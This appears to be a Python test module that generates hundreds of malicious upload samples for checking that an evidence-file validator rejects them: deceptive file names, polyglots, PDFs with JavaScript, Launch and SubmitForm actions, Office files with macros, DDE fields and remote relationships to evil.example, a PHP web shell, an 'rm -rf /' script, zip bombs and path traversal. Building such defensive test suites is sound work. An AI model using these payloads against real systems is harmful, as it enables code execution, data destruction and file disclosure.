"""Files that must never be kept as evidence: types × tricks, generated, each with the family of its refusal."""

import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Iterator, Mapping
from dataclasses import dataclass

import pikepdf
from PIL import Image

from tests.evidence_files import (
    archive,
    document,
    docx,
    docx_parts,
    picture,
    relationships,
    sound_files,
    xlsx,
    xlsx_parts,
)
from tests.pdfs import pdf

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
EXTENSIONS = ("pdf", "png", "jpg", "jpeg", "docx", "xlsx")
FOREIGN = {
    "exe": b"MZ\x90\x00" + b"\0" * 200,
    "elf": b"\x7fELF\x02\x01\x01" + b"\0" * 200,
    "script": b"#!/bin/sh\nrm -rf /\n",
    "html": b"<!DOCTYPE html><html><script>alert(1)</script></html>",
    "svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "rar": b"Rar!\x1a\x07\x01\x00" + b"\0" * 100,
    "7z": b"7z\xbc\xaf\x27\x1c" + b"\0" * 100,
    "gz": b"\x1f\x8b\x08\x00" + b"\0" * 100,
    "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "gif": b"GIF89a" + b"\0" * 100,
    "rtf": b"{\\rtf1 \\object}",
    "lnk": b"L\x00\x00\x00\x01\x14\x02\x00" + b"\0" * 100,
    "php": b"<?php system($_GET['c']); ?>",
    "eicar": EICAR,
    "zeros": b"\0" * 4096,
}
_KINDS = {"docx": (docx, docx_parts), "xlsx": (xlsx, xlsx_parts)}


@dataclass(frozen=True)
class Attack:
    """A malicious upload: what it tries, its file name, its bytes."""

    trick: str
    name: str
    content: bytes


def attacks() -> list[Attack]:
    """All of them."""
    return [*_names(), *_other_content(), *_polyglots(), *_cut(), *_pdfs(), *_office(), *_archives(), *_images()]


def _names() -> Iterator[Attack]:
    deceiving = {
        "rtl override": "报告\u202efdp.{}",
        "rtl isolate": "报告\u2067x.{}",
        "left-to-right mark": "报告\u200e.{}",
        "zero width": "报\u200b告.{}",
        "line feed": "报告\n.{}",
        "nul": "报告\0.{}",
        "byte order mark": "\ufeff报告.{}",
        "path": "../../etc/报告.{}",
        "backslash": "..\\报告.{}",
        "drive": "C:报告.{}",
        "stream": "报告.txt:x.{}",
        "pipe": "报告|calc.{}",
        "markup": "<script>.{}",
        "quote": '报告".{}',
        "hidden": ".报告.{}",
        "device": "CON.{}",
        "device two": "lpt1.{}",
        "many spaces": "报告" + " " * 40 + ".exe .{}",
        "space before the dot": "报告 .{}",
        "long": "长" * 121 + ".{}",
        "endless": "a" * 5000 + ".{}",
        **{f"double .{each}": "报告." + each + ".{}" for each in ("exe", "js", "html", "PHP", "docm", "zip", "svg")},
    }
    good = {name.rpartition(".")[2].lower(): content for name, content in sound_files().items()}
    for trick, pattern in deceiving.items():
        for extension in EXTENSIONS:
            yield Attack(f"name: {trick}", pattern.format(extension), good[extension])
    for extension in (
        "exe",
        "docm",
        "xlsm",
        "doc",
        "xls",
        "zip",
        "rar",
        "svg",
        "html",
        "js",
        "pdf.exe",
        "pdf ",
        "",
        "ofd",
    ):
        yield Attack(f"type: {extension or 'none'}", f"报告.{extension}", pdf())


def _other_content() -> Iterator[Attack]:
    good = {name.rpartition(".")[2].lower(): content for name, content in sound_files().items()}
    for extension in EXTENSIONS:
        for what, content in FOREIGN.items():
            yield Attack(f"{what} as {extension}", f"报告.{extension}", content)
        for other in EXTENSIONS:
            if {extension, other} != {"jpg", "jpeg"} and other != extension:
                yield Attack(f"{other} as {extension}", f"报告.{extension}", good[other])


def _polyglots() -> Iterator[Attack]:
    inner = archive({"evil.js": "alert(1)"})
    behind = {"zip": inner, "exe": FOREIGN["exe"], "html": FOREIGN["html"], "php": FOREIGN["php"], "pdf": pdf()}
    for name, content in sound_files().items():
        for what, added in behind.items():
            yield Attack(f"{what} behind {name}", name, content + added)
        yield Attack(f"junk before {name}", name, b"<script>/*" + content)
    yield Attack("zip with the end of a PDF", "报告.pdf", pdf() + archive({"a": "b"}) + b"\n%%EOF\n")
    for mark in (b"<script>alert(1)</script>", b"<?php system('id'); ?>", b"%PDF-1.7\n", b"<html><body>"):
        yield Attack(f"comment {mark!r} in a JPEG", "图.jpg", _jpeg_with(mark))
        yield Attack(f"text {mark!r} in a PNG", "图.png", _png_with(b"tEXt", b"Comment\0" + mark))


def _cut() -> Iterator[Attack]:
    for name, content in sound_files().items():
        for tenths in (1, 5, 9):
            yield Attack(f"cut at {tenths}/10: {name}", name, content[: len(content) * tenths // 10])


def _pdfs() -> Iterator[Attack]:
    script = {"/S": pikepdf.Name.JavaScript, "/JS": pikepdf.String("app.alert(1)")}
    actions = {
        "JavaScript": script,
        "Launch": {"/S": pikepdf.Name.Launch, "/F": pikepdf.String("cmd.exe")},
        "SubmitForm": {"/S": pikepdf.Name.SubmitForm, "/F": pikepdf.String("http://evil.example")},
        "ImportData": {"/S": pikepdf.Name.ImportData, "/F": pikepdf.String("a.fdf")},
        "GoToR": {"/S": pikepdf.Name.GoToR, "/F": pikepdf.String("evil.pdf")},
        "GoToE": {"/S": pikepdf.Name.GoToE},
        "Rendition": {"/S": pikepdf.Name.Rendition},
    }
    for what, action in actions.items():
        for packed in (False, True):
            suffix = " in an object stream" if packed else ""
            yield Attack(f"PDF opens with {what}{suffix}", "报告.pdf", _pdf("open", action, packed))
            yield Attack(f"PDF page acts with {what}{suffix}", "报告.pdf", _pdf("page", action, packed))
            yield Attack(f"PDF link acts with {what}{suffix}", "报告.pdf", _pdf("link", action, packed))
    yield Attack("PDF names a script", "报告.pdf", _pdf("names", script, True))
    yield Attack("PDF with a form of XML", "报告.pdf", _pdf("xfa", script, False))
    yield Attack("PDF embeds a file", "报告.pdf", _pdf_with_file())
    yield Attack("PDF with rich media", "报告.pdf", _pdf("media", script, False))
    for owner, user in (("a", "a"), ("a", "")):
        yield Attack(f"PDF encrypted, password {user!r}", "报告.pdf", _pdf_encrypted(owner, user))
    hidden = pdf().replace(b"/Resources<<>>", b"/AA<</O<</S/J#61vaScript/J#53(app.alert(1))>>>>")
    yield Attack("PDF with escaped names", "报告.pdf", hidden)
    yield Attack("PDF to be repaired, with a script", "报告.pdf", hidden.replace(b"startxref\n", b"startxref\n9"))
    yield Attack("PDF without pages", "报告.pdf", pdf().replace(b"[3 0 R]/Count 1", b"[]/Count 0     "))
    yield Attack("PDF of a head only", "报告.pdf", b"%PDF-1.7\n%%EOF\n")


def _pdf(where: str, act: Mapping[str, pikepdf.Object], packed: bool) -> bytes:
    with pikepdf.open(io.BytesIO(pdf())) as made:
        action = pikepdf.Dictionary(dict(act))
        page = made.pages[0].obj
        if where == "open":
            made.Root.OpenAction = made.make_indirect(action)
        elif where == "page":
            page.AA = pikepdf.Dictionary(O=action)
        elif where == "link":
            link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)
            page.Annots = pikepdf.Array([made.make_indirect(link)])
        elif where == "names":
            tree = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), made.make_indirect(action)]))
            made.Root.Names = pikepdf.Dictionary(JavaScript=tree)
        elif where == "xfa":
            made.Root.AcroForm = pikepdf.Dictionary(XFA=made.make_stream(b"<xdp/>"))
        else:
            media = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 9, 9])
            page.Annots = pikepdf.Array([made.make_indirect(media)])
        mode = pikepdf.ObjectStreamMode.generate if packed else pikepdf.ObjectStreamMode.disable
        return _saved(made, object_stream_mode=mode)


def _pdf_with_file() -> bytes:
    with pikepdf.open(io.BytesIO(pdf())) as made:
        made.attachments["evil.exe"] = FOREIGN["exe"]
        return _saved(made)


def _pdf_encrypted(owner: str, user: str) -> bytes:
    with pikepdf.open(io.BytesIO(pdf())) as made:
        return _saved(made, encryption=pikepdf.Encryption(owner=owner, user=user))


def _saved(made: pikepdf.Pdf, **options: object) -> bytes:
    written = io.BytesIO()
    made.save(written, **options)  # type: ignore[arg-type]
    return written.getvalue()


def _office() -> Iterator[Attack]:
    for extension, (make, _) in _KINDS.items():
        root, name = ("word" if extension == "docx" else "xl"), f"报告.{extension}"
        parts = {
            "macros": f"{root}/vbaProject.bin",
            "macros in capitals": f"{root}/VBAPROJECT.BIN",
            "macro data": f"{root}/vbaData.xml",
            "ActiveX": f"{root}/activeX/activeX1.xml",
            "control properties": f"{root}/ctrlProps/ctrlProp1.xml",
            "macro sheet": f"{root}/macrosheets/sheet1.xml",
            "dialog sheet": f"{root}/dialogsheets/sheet1.xml",
            "embedded object": f"{root}/embeddings/oleObject1.bin",
            "embedded workbook": f"{root}/embeddings/book.xlsx",
            "external link": f"{root}/externalLinks/externalLink1.xml",
            "query": f"{root}/queryTables/queryTable1.xml",
            "web extension": f"{root}/webextensions/webextension1.xml",
        }
        for what, part in parts.items():
            yield Attack(f"{extension}: {what}", name, make({part: "<a/>"}))
        for what, content in FOREIGN.items():
            if what in ("exe", "elf", "rar", "7z", "gz", "ole", "lnk"):
                yield Attack(
                    f"{extension}: {what} as a picture inside", name, make({f"{root}/media/image1.png": content})
                )
        yield Attack(f"{extension}: zip inside", name, make({f"{root}/media/image1.png": archive({"a": "b"})}))
        for kind in ("attachedTemplate", "oleObject", "externalLinkPath", "image", "frame", "subDocument", "aFChunk"):
            outside = relationships((kind, "http://evil.example/x", True))
            yield Attack(f"{extension}: fetches {kind}", name, make({f"{root}/_rels/x.xml.rels": outside}))
        for target in ("file://evil/share", "\\\\evil\\share", "javascript:alert(1)", "ms-word:ofe|u|http://e.example"):
            link = relationships(("hyperlink", target, True))
            yield Attack(f"{extension}: link to {target}", name, make({f"{root}/_rels/x.xml.rels": link}))
        for kind in ("vbaProject", "control", "package", "activeXControlBinary"):
            inside = relationships((kind, "media/x.png", False))
            yield Attack(f"{extension}: related as {kind}", name, make({f"{root}/_rels/x.xml.rels": inside}))
        bomb = '<!DOCTYPE a [<!ENTITY x "ha"><!ENTITY y "&x;&x;">]><a>&y;</a>'
        yield Attack(f"{extension}: entities", name, make({f"{root}/styles.xml": bomb}))
        yield Attack(f"{extension}: entities in UTF-16", name, make({f"{root}/styles.xml": bomb.encode("utf-16")}))
        yield Attack(f"{extension}: broken part", name, make({f"{root}/styles.xml": "<a><b></a>"}))
        for declared in (
            "application/vnd.ms-word.document.macroEnabled.main+xml",
            "application/vnd.ms-office.vbaProject",
        ):
            types = str(docx_parts()["[Content_Types].xml"]).replace("application/xml", declared)
            yield Attack(f"{extension}: declared as {declared}", name, make({"[Content_Types].xml": types}))
    yield from _fields()
    yield from _formulas()


def _fields() -> Iterator[Attack]:
    for field in (
        'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc"',
        "DDE excel x y",
        "INCLUDETEXT http://e.example/x",
    ):
        whole = f"<w:fldSimple w:instr='{field}'/>"
        yield Attack(f"docx: field {field[:11]}", "报告.docx", docx({"word/document.xml": document(whole)}))
        cut = "".join(f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in (field[:2], field[2:5], field[5:]))
        yield Attack(f"docx: field {field[:11]} in pieces", "报告.docx", docx({"word/document.xml": document(cut)}))
        yield Attack(f"docx: field {field[:11]} in the head", "报告.docx", docx({"word/header1.xml": document(whole)}))
    for element in ("object", "control", "altChunk", "subDoc"):
        body = f"<w:{element}/>"
        yield Attack(f"docx: element {element}", "报告.docx", docx({"word/document.xml": document(body)}))


def _formulas() -> Iterator[Attack]:
    spreadsheet = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    for formula in ("cmd|'/c calc'!A0", "MSEXCEL|'\\..\\cmd.exe /c calc'!''", "DDE|x!y"):
        sheet = (
            f"<worksheet xmlns='{spreadsheet}'><sheetData><row><c><f>{formula}</f></c></row></sheetData></worksheet>"
        )
        yield Attack(f"xlsx: formula {formula}", "报告.xlsx", xlsx({"xl/worksheets/sheet1.xml": sheet}))
        names = f"<definedNames><definedName>{formula}</definedName></definedNames>"
        book = f"<workbook xmlns='{spreadsheet}'>{names}</workbook>"
        yield Attack(f"xlsx: name {formula}", "报告.xlsx", xlsx({"xl/workbook.xml": book}))
    for element in ("oleObjects", "controls"):
        sheet = f"<worksheet xmlns='{spreadsheet}'><{element}/></worksheet>"
        yield Attack(f"xlsx: element {element}", "报告.xlsx", xlsx({"xl/worksheets/sheet1.xml": sheet}))
    yield Attack("xlsx: data connection", "报告.xlsx", xlsx({"xl/connections.xml": "<connections/>"}))


def _archives() -> Iterator[Attack]:
    for extension, (make, parts) in _KINDS.items():
        name, zeros = f"报告.{extension}", bytes(12 * 1024 * 1024)
        for path in ("../evil.xml", "/etc/passwd", "C:/evil.xml", "word/../../evil.xml", "word\\evil.xml", "a\nb.xml"):
            yield Attack(f"{extension}: path {path!r}", name, make({path: "<a/>"}))
        yield Attack(f"{extension}: one member bursts", name, make({"media/zeros.bin": zeros}))
        yield Attack(
            f"{extension}: part bursts", name, make({"docProps/app.xml": b"<a>" + b" " * 12_000_000 + b"</a>"})
        )
        many = {f"media/{number}": bytes(9 * 1024 * 1024) for number in range(3)}
        yield Attack(f"{extension}: together they burst", name, make(many))
        yield Attack(f"{extension}: too many members", name, make({f"media/{number}": b"" for number in range(2000)}))
        yield Attack(f"{extension}: same name twice", name, _twice(parts()))
        yield Attack(f"{extension}: same name in other letters", name, make({"[CONTENT_TYPES].xml": "<a/>"}))
        yield Attack(f"{extension}: link", name, _with_link(parts()))
        yield Attack(f"{extension}: password", name, _flagged(make()))
        yield Attack(f"{extension}: comment", name, _commented(make()))
        for method in (zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA):
            yield Attack(f"{extension}: packed by {method}", name, archive(parts(), method))
        yield Attack(f"{extension}: says less than it holds", name, _lying(make()))
        yield Attack(f"{extension}: wrong checksum", name, _lying(make(), 16))
        for missing in ("[Content_Types].xml", "word/document.xml" if extension == "docx" else "xl/workbook.xml"):
            left = {part: content for part, content in parts().items() if part != missing}
            yield Attack(f"{extension}: without {missing}", name, archive(left))
        yield Attack(f"{extension}: no archive", name, b"PK\x03\x04 broken")


def _twice(parts: dict[str, str | bytes]) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as packed, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for name, content in (*parts.items(), ("[Content_Types].xml", "<evil/>")):
            packed.writestr(name, content)
    return written.getvalue()


def _with_link(parts: dict[str, str | bytes]) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as packed:
        for name, content in parts.items():
            packed.writestr(name, content)
        link = zipfile.ZipInfo("media/link.png")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        packed.writestr(link, "/etc/passwd")
    return written.getvalue()


def _flagged(content: bytes) -> bytes:
    """The first member says it is encrypted, in its own head and in the directory."""
    at = content.index(b"PK\x01\x02")
    made = bytearray(content)
    made[6] |= 1
    made[at + 8] |= 1
    return bytes(made)


def _commented(content: bytes) -> bytes:
    return content[:-2] + struct.pack("<H", 5) + b"%%EOF"


def _lying(content: bytes, field: int = 24) -> bytes:
    """The directory gives the first member a smaller size (24) or another checksum (16)."""
    at = content.index(b"PK\x01\x02") + field
    made = bytearray(content)
    made[at : at + 4] = struct.pack("<I", 3)
    return bytes(made)


def _images() -> Iterator[Attack]:
    for width, height in ((100_000, 100_000), (50_001, 1000), (65_000, 65_000), (1, 2**31 - 1)):
        yield Attack(f"png: {width}×{height} claimed", "图.png", _png_of(width, height))
    for extension in ("jpg", "jpeg"):
        for width, height in ((65_000, 65_000), (10_000, 5_001)):
            yield Attack(f"{extension}: {width}×{height} claimed", f"图.{extension}", _jpeg_of(width, height))
        for start, end in ((b"\xff\xda", b""), (b"\xff\xc0", b"\xff\xd9")):
            content = picture("JPEG")
            yield Attack(f"{extension}: ends at {start!r}", f"图.{extension}", content[: content.index(start)] + end)
    broken = bytearray(picture("PNG"))
    broken[broken.index(b"IDAT") + 6] ^= 0xFF
    yield Attack("png: broken data", "图.png", bytes(broken))
    yield Attack("png: text bursts", "图.png", _png_with(b"zTXt", b"a\0\0" + zlib.compress(bytes(3 * 1024 * 1024))))
    yield Attack("png: animated", "图.png", _animated())
    yield Attack("png: no end", "图.png", picture("PNG")[:-12])


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def _png_of(width: int, height: int) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    data = zlib.compress(bytes(1000))
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def _png_with(kind: bytes, content: bytes) -> bytes:
    made = picture("PNG")
    at = 8 + 12 + 13
    return made[:at] + _chunk(kind, content) + made[at:]


def _animated() -> bytes:
    written = io.BytesIO()
    frames = [Image.new("L", (8, 8), shade) for shade in (0, 255)]
    frames[0].save(written, "PNG", save_all=True, append_images=frames[1:])
    return written.getvalue()


def _jpeg_with(comment: bytes) -> bytes:
    made = picture("JPEG")
    return made[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + made[2:]


def _jpeg_of(width: int, height: int) -> bytes:
    made = bytearray(picture("JPEG"))
    at = made.index(b"\xff\xc0") + 5
    made[at : at + 4] = struct.pack(">HH", height, width)
    return bytes(made)
